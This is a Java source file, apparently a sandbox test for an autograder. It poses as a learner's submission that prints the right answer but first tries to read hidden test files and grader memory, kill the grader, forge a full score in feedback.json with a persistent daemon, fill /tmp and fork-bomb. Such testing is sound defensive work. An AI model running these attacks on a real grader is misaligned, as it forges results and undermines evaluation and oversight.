import java.io.BufferedReader;
import java.io.File;
import java.io.FileInputStream;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.ConnectException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.AccessDeniedException;
import java.nio.file.Files;
import java.nio.file.NoSuchFileException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/** A hostile submission: it prints the right answer, but first tries every attack a
 * learner's Java program can try on a grader, and says on stderr how each one went:
 *   attack NAME: refused errno=ENAME (detail)     or     attack NAME: SUCCEEDED (detail)
 * Java has no system calls of its own: errnos come from the messages the JDK builds
 * with strerror(3); what the JDK cannot do (ptrace, setsid) it asks the image's tools.
 * HOSTILE_ATTACKS=name,name... runs only those (the test's controls use it). */
public class Main {
    static final String FEEDBACK = "/shared/feedback.json";
    static final String FORGED = "{\"fractionalScore\": 1.0, \"feedback\": \"forged by the learner\"}\n";
    static final Map<String, String> ERRNO = Map.ofEntries(
        Map.entry("Operation not permitted", "EPERM"), Map.entry("Permission denied", "EACCES"),
        Map.entry("No such file or directory", "ENOENT"), Map.entry("No such process", "ESRCH"),
        Map.entry("Resource temporarily unavailable", "EAGAIN"), Map.entry("File too large", "EFBIG"),
        Map.entry("No space left on device", "ENOSPC"), Map.entry("Read-only file system", "EROFS"),
        Map.entry("Network is unreachable", "ENETUNREACH"), Map.entry("No route to host", "EHOSTUNREACH"),
        Map.entry("Address family not supported by protocol", "EAFNOSUPPORT"),
        Map.entry("Too many open files", "EMFILE"), Map.entry("Input/output error", "EIO"),
        // A JVM thread that cannot start: pthread_create's EAGAIN, in the JVM's words.
        Map.entry("unable to create native thread", "EAGAIN"));
    static final List<String> ONLY = Arrays.asList(System.getenv().getOrDefault("HOSTILE_ATTACKS", "").split(","));

    static void say(String name, String outcome) {
        System.err.println("attack " + name + ": " + outcome);
    }

    static String errno(Throwable e) {
        if (e instanceof AccessDeniedException)
            return "EACCES";
        if (e instanceof NoSuchFileException)
            return "ENOENT";
        String m = String.valueOf(e.getMessage());
        for (Map.Entry<String, String> x : ERRNO.entrySet())
            if (m.contains(x.getKey()))
                return x.getValue();
        return "unknown";
    }

    interface Attack { String run() throws Throwable; }

    static void attempt(String name, Attack a) {
        if (!ONLY.equals(List.of("")) && !ONLY.contains(name))
            return;
        try {
            say(name, "SUCCEEDED (" + a.run() + ")");
        } catch (Throwable e) {
            say(name, "refused errno=" + errno(e) + " (" + e.getClass().getSimpleName() + ": " + e.getMessage() + ")");
        }
    }

    static String comm(long pid) {
        try {
            return Files.readString(Path.of("/proc/" + pid + "/comm")).trim();
        } catch (IOException e) {
            return "";
        }
    }

    static long uid(long pid) {
        try {
            for (String l : Files.readAllLines(Path.of("/proc/" + pid + "/status")))
                if (l.startsWith("Uid:"))
                    return Long.parseLong(l.split("\\s+")[1]);
        } catch (IOException | RuntimeException e) {
            // gone, or hidden
        }
        return -1;
    }

    /** The grader: the nearest ancestor that is not usher (or PID 1), else any process of
     * another uid than ours that is neither root nor usher. */
    static long findGrader() {
        for (Optional<ProcessHandle> p = ProcessHandle.current().parent(); p.isPresent() && p.get().pid() > 1;
             p = p.get().parent())
            if (!comm(p.get().pid()).equals("usher"))
                return p.get().pid();
        long me = uid(ProcessHandle.current().pid());
        return ProcessHandle.allProcesses().mapToLong(ProcessHandle::pid)
            .filter(p -> p > 1 && uid(p) > 0 && uid(p) != me && !comm(p).equals("usher")).findFirst().orElse(0);
    }

    static String read(String path) throws IOException {
        try (FileInputStream in = new FileInputStream(path)) {
            return "read " + in.readNBytes(4096).length + " bytes of " + path;
        }
    }

    static String write(String path, boolean create) throws IOException {
        if (create && new File(path).exists())
            return path + " exists";
        try (FileOutputStream out = new FileOutputStream(path)) {
            out.write(FORGED.getBytes(StandardCharsets.UTF_8));
        }
        return "wrote " + path;
    }

    /** Runs a shell command (the JDK cannot send a signal and say why it failed): its
     * stderr is the kernel's answer in strerror's words. */
    static String shell(String cmd) throws IOException, InterruptedException {
        Process p = new ProcessBuilder("bash", "-c", cmd).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8).trim();
        if (p.waitFor() != 0)
            throw new IOException(out);
        return cmd + ": done";
    }

    static String net(String host) throws IOException {
        try (Socket s = new Socket()) {
            s.connect(new InetSocketAddress(host, 9), 2000);
            return "connected to " + host;
        } catch (ConnectException e) {
            if (String.valueOf(e.getMessage()).contains("Connection refused"))
                return host + " answered: connection refused";
            throw e;
        } catch (SocketTimeoutException e) {
            return host + ": no answer within 2 s, but the packet left";
        }
    }

    static String forkBomb() throws Throwable {
        List<Process> kids = new ArrayList<>();
        try {
            // No pipes to the children: each would hold fds here, and the open-files
            // limit would stop the bomb before the process limit does.
            ProcessBuilder b = new ProcessBuilder("sleep", "30").redirectInput(new File("/dev/null"))
                .redirectOutput(ProcessBuilder.Redirect.DISCARD).redirectError(ProcessBuilder.Redirect.DISCARD);
            while (kids.size() < 5000)
                kids.add(b.start());
            return kids.size() + " processes and no limit";
        } catch (Throwable e) {
            throw new IOException(e.getMessage() + " (after " + kids.size() + " processes)");
        } finally {
            for (Process p : kids)
                p.destroyForcibly().waitFor();
        }
    }

    static String fillTmp() throws IOException {
        File f = new File("/tmp/fill-" + ProcessHandle.current().pid());
        byte[] chunk = new byte[1 << 20];
        int n = 0;
        try (FileOutputStream out = new FileOutputStream(f)) {
            for (; n < 4096; n++)
                out.write(chunk);
            return "wrote " + n + " MiB";
        } catch (IOException e) {
            throw new IOException(e.getMessage() + " (after " + n + " MiB)");
        } finally {
            f.delete();
        }
    }

    static void killAll(long grader) {
        if (!ONLY.equals(List.of("")) && !ONLY.contains("kill-all"))
            return;
        long me = ProcessHandle.current().pid();
        long hit = ProcessHandle.allProcesses().filter(p -> p.pid() != me).filter(ProcessHandle::destroyForcibly).count();
        long parent = ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(0L);
        boolean alive = ProcessHandle.of(grader).map(ProcessHandle::isAlive).orElse(false)
            && ProcessHandle.of(parent).map(ProcessHandle::isAlive).orElse(false);
        String what = "SIGKILL to every process: " + hit + " could be signalled; the grader " + grader
            + " and our parent " + parent;
        say("kill-all", alive ? "refused errno=none (" + what + " are alive)" : "SUCCEEDED (" + what + ": not both alive)");
    }

    /** setsid -f (a new session, forked): a process that outlives the run, waits 2 s, then
     * for 15 s puts a full score back into feedback.json whenever the grader writes it. */
    static String daemon() throws IOException {
        String f = FORGED.trim().replace("'", "");
        new ProcessBuilder("setsid", "-f", "sh", "-c", "sleep 2; i=0; while [ $i -lt 300 ]; do "
            + "[ \"$(cat " + FEEDBACK + " 2>/dev/null)\" = '" + f + "' ] || echo '" + f + "' >" + FEEDBACK
            + " 2>/dev/null; sleep 0.05; i=$((i+1)); done").redirectErrorStream(true)
            .redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
        return "started (a new session, forked: it rewrites feedback.json from 2 s on)";
    }

    public static void main(String[] args) throws IOException {
        BufferedReader in = new BufferedReader(new InputStreamReader(System.in));
        long sum = 0;
        for (String line; (line = in.readLine()) != null; )
            for (String t : line.trim().split("\\s+"))
                if (!t.isEmpty())
                    sum += Long.parseLong(t);
        long grader = findGrader();
        long parent = ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(0L);
        System.err.println("hostile: pid " + ProcessHandle.current().pid() + ", parent " + parent + ", grader " + grader);
        attempt("read-hidden", () -> read("/grader/tests/1.out"));
        attempt("list-hidden", () -> {
            try (var d = Files.newDirectoryStream(Path.of("/grader/tests"))) {
                return "listed /grader/tests";
            }
        });
        if (grader > 0) {
            attempt("grader-environ", () -> read("/proc/" + grader + "/environ"));
            attempt("grader-mem", () -> {
                new FileInputStream("/proc/" + grader + "/mem").close();
                return "opened /proc/" + grader + "/mem";
            });
            attempt("kill-grader", () -> shell("kill -9 " + grader));
            if (ONLY.equals(List.of("")))
                say("ptrace-attach", "not tried (Java has no ptrace, and the image no debugger)");
        }
        attempt("init-environ", () -> read("/proc/1/environ"));
        attempt("feedback-rewrite", () -> write(FEEDBACK, false));
        attempt("shared-create", () -> write("/shared/hacked.txt", true));
        attempt("kill-parent", () -> shell("kill -9 " + parent));
        killAll(grader);
        attempt("net-loopback", () -> net("127.0.0.1"));
        attempt("net-remote", () -> net("10.0.0.1"));
        attempt("fill-tmp", Main::fillTmp);
        if (ONLY.equals(List.of("")) || ONLY.contains("daemon")) // after kill-all, which would end it
            say("daemon", daemon());
        attempt("fork-bomb", Main::forkBomb); // last: it may end the run (a limit)
        System.out.println(sum);
    }
}
